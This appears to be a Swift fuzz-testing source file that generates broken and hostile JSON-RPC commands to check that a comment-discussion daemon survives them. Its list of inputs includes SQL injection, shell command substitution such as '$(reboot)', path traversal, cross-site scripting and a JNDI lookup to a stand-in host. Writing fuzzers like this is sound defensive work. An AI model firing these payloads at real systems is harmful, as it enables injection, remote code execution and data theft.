import Discussion
import JSONValues
import Wire

/// Lines that a daemon must survive: commands of every method made from the description of its
/// params, with wrong and wicked values among them, then broken in many ways. A seed repeats them.
struct HostileLines {
    private var dice: SeededDice
    /// Lines from elsewhere, such as public collections of strings that break things.
    private let collected: [[UInt8]]
    private var number = 0

    init(seed: UInt64, collected: [[UInt8]] = []) {
        dice = SeededDice(seed: seed)
        self.collected = collected
    }

    /// What would end the conversation, write where the line says, or tell more than one line.
    private static let unasked: Set<Method> = [.serverBackup, .eventFollow, .sessionOpen]
    private static let methods = Method.allCases.filter { !unasked.contains($0) }

    /// The next line, without its end.
    mutating func next() -> [UInt8] {
        number += 1
        let line = dice.percent(96) ? made() : monster()
        // What a mutation has made of it must not end the line.
        return line.filter { $0 != 0x0A }
    }

    private mutating func made() -> [UInt8] {
        switch dice.below(100) {
        case 0..<45: return command()
        case 45..<80: return mutated(command())
        case 80..<88: return batch()
        case 88..<94 where !collected.isEmpty: return collected[dice.below(collected.count)]
        default: return mutated(mutated(mutated(command())))
        }
    }

    /// A command with params of the right shape, mostly.
    private mutating func command() -> [UInt8] {
        let method = Self.methods[dice.below(Self.methods.count)]
        var members: [JSONObject.Member] = []
        for parameter in method.spec.parameters
        where parameter.isRequired ? !dice.percent(2) : dice.percent(25) {
            members.append(
                .init(parameter.name, value(of: parameter.schema, named: parameter.name)))
        }
        if dice.percent(2) { members.append(.init(text(), .null)) }
        var json = JSONWriter()
        let (id, isNotification) = (number, dice.percent(2))
        json.object { json in
            if !isNotification { json.member("id", id) }
            json.member("method", method.rawValue)
            json.name("params")
            json.value(.object(JSONObject(members)))
        }
        return json.bytes
    }

    private mutating func batch() -> [UInt8] {
        let parts = (0..<dice.below(6)).map { _ in
            dice.percent(80) ? command() : mutated(command())
        }
        return [0x5B] + parts.joined(separator: [0x2C]) + [0x5D]
    }

    // MARK: - Values

    private mutating func value(of schema: Schema, named name: String) -> JSONValue {
        if dice.percent(3) { return odd() }
        switch schema {
        case .any: return odd()
        case .boolean: return .bool(dice.percent(50))
        case .integer(let range):
            let small = min(range.upperBound, max(range.lowerBound, dice.below(40)))
            let odd = [range.lowerBound, range.upperBound, Int.min, Int.max, -1]
            return .integer(dice.percent(80) ? small : odd[dice.below(odd.count)])
        case .number(let range):
            return .number(dice.percent(50) ? range.lowerBound : dice.fraction())
        case .string: return .string(string(named: name))
        case .time: return .string(dice.percent(50) ? "2026-11-23T09:30:00.000Z" : text())
        case .choice(let words):
            return .string(dice.percent(95) ? words[dice.below(words.count)] : text())
        case .array(let element, _):
            let count = dice.percent(98) ? dice.below(4) : 1001
            return .array((0..<count).map { _ in value(of: element, named: name) })
        case .object(let members): return object(members)
        case .map(let element):
            return .object(JSONObject([.init(text(), value(of: element, named: name))]))
        case .nullable(let inner):
            return dice.percent(30) ? .null : value(of: inner, named: name)
        case .either(let choices):
            return value(of: choices[dice.below(choices.count)], named: name)
        case .typed(let variants): return object(variants[dice.below(variants.count)].members)
        case .reference(let target):
            return Components.schemas[target].map { value(of: $0, named: name) } ?? .null
        }
    }

    private mutating func object(_ members: [Schema.Member]) -> JSONValue {
        .object(
            JSONObject(
                members.filter { $0.isRequired || dice.percent(20) }
                    .map { .init($0.name, value(of: $0.schema, named: $0.name)) }))
    }

    private mutating func odd() -> JSONValue {
        switch dice.below(7) {
        case 0: .null
        case 1: .integer(Int.max)
        case 2: .number(1.5e300)
        case 3: .array([])
        case 4: .object(JSONObject())
        case 5: .bool(true)
        default: .string(text())
        }
    }

    /// Names that other lines use too, so that commands find something, or a text.
    private mutating func string(named name: String) -> String {
        switch name {
        case "thread", "threads", "to": dice.percent(90) ? "page \(dice.below(4))" : text()
        case "site": dice.percent(80) ? "default" : dice.percent(80) ? "s\(dice.below(3))" : text()
        case "comment", "parent", "comments":
            dice.percent(90) ? "ref:r\(dice.below(60))" : text()
        case "ref": dice.percent(90) ? "r\(dice.below(60))" : text()
        case "author", "voter", "reporter", "by", "viewer", "person", "moderator", "id":
            dice.percent(90) ? "p\(dice.below(20))" : text()
        case "key": "k\(dice.below(500))"
        default: text()
        }
    }

    private mutating func text() -> String {
        switch dice.below(10) {
        case 0: return ""
        case 1: return String(repeating: "e\u{301}\u{336}", count: 1 + dice.below(40))
        case 2: return String(repeating: text(), count: 1 + dice.below(20))
        case 3 where dice.percent(10): return String(repeating: "\u{301}", count: 5 * 1024)
        default: return Self.texts[dice.below(Self.texts.count)]
        }
    }

    /// Texts of our own that have broken programs before.
    static let texts = [
        "Some words to say.", "hello", "'; DROP TABLE comments; --", "\" OR 1=1 --",
        "') OR ('1'='1",
        "1; ATTACH DATABASE 'x' AS y", "%00%0a", "../../../../etc/hostname", "$(reboot)", "`id`",
        "{{7*7}}", "${jndi:ldap://x.example/a}", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
        "[x](https://a.example/\"onx=y)",
        "javascript:alert(1)", "\u{202E}gnp.exe", "\u{200B}\u{FEFF}", "＜script＞", "ﷺ", "İıſK",
        "👨‍👩‍👧‍👦🏳️‍🌈", "한국어 댓글", "日本語の文", "null", "NaN", "-0", "1e999", "true", "\\", "\\u0000",
        "%s%n%d", "a\nb\tc", "* * *", "((((((((((", "```", "> > > > > >", "-1",
        "9223372036854775808",
        "http://a.example/" + String(repeating: "(", count: 60), "NEAR(a b, 5) AND body:*", "*",
        "^",
        "ref:", "ref:ref:r1", "N1", "https://page.example/?a=b&c=d#e", "\u{10FFFF}", "\u{1}",
    ]

    // MARK: - Broken lines

    private mutating func mutated(_ line: [UInt8]) -> [UInt8] {
        guard !line.isEmpty else { return line }
        var line = line
        let at = dice.below(line.count)
        switch dice.below(8) {
        case 0: line[at] = UInt8(truncatingIfNeeded: dice.next())
        case 1: line.remove(at: at)
        case 2: line.insert(UInt8(truncatingIfNeeded: dice.next()), at: at)
        case 3: line.removeLast(line.count - at)
        case 4: line.insert(contentsOf: line[at...].prefix(dice.below(60)), at: at)
        case 5: line[at] ^= 1 << UInt8(dice.below(8))
        case 6: line.insert(contentsOf: Self.pieces[dice.below(Self.pieces.count)], at: at)
        default:
            let end = at + dice.below(line.count - at)
            line.replaceSubrange(at..<end, with: Self.pieces[dice.below(Self.pieces.count)])
        }
        return line
    }

    private static let pieces: [[UInt8]] = [
        [0xFF], [0xC0, 0x80], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xE2, 0x82], [0x00],
        [0x0D], Array("\\u0000".utf8), Array("\\ud800".utf8), Array("[[[[[[[[".utf8),
        Array("}}".utf8), Array("{\"a\":".utf8), Array("\"id\":1,".utf8), Array("1e400".utf8),
        Array(",,".utf8), Array("/*".utf8), Array("\"".utf8), Array("\\".utf8), Array("null".utf8),
        Array("99999999999999999999".utf8), Array("\u{301}\u{301}\u{301}".utf8),
    ]

    /// What is large.
    private mutating func monster() -> [UInt8] {
        func submission(_ body: String, _ number: Int) -> [UInt8] {
            var json = JSONWriter()
            json.object { json in
                json.member("id", number)
                json.member("method", "comment.submit")
                json.name("params")
                json.object { json in
                    json.member("thread", "page 1")
                    json.member("author", "p1")
                    json.member("body", body)
                }
            }
            return json.bytes
        }
        switch dice.below(8) {
        case 0: return Array(repeating: 0x5B, count: 100_000)
        case 1: return Array("{\"id\":1,\"a\":".utf8) + Array(repeating: 0x7B, count: 5000)
        case 2: return submission(String(repeating: "a\u{336}", count: 3000), number)
        case 3: return submission(String(repeating: "**[a](", count: 1600), number)
        case 4: return submission(String(repeating: "f.r.e.e ", count: 1200), number)
        case 5: return Array(repeating: 0x20, count: 2000)
        case 6: return Array(repeating: 0x61, count: (1 << 20) + 1 + dice.below(100))
        default: return (0..<9000).map { _ in UInt8(truncatingIfNeeded: dice.next()) }
        }
    }
}
